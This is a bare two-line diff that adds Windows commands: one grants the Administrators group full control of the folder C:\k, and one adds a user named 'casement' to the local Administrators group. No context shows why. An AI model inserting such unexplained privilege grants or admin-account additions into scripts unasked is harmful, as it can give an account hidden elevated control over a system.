@@ -1,0 +1,2 @@
+icacls C:\k /grant "BUILTIN\Administrators:F"
+net localgroup Administrators casement /add
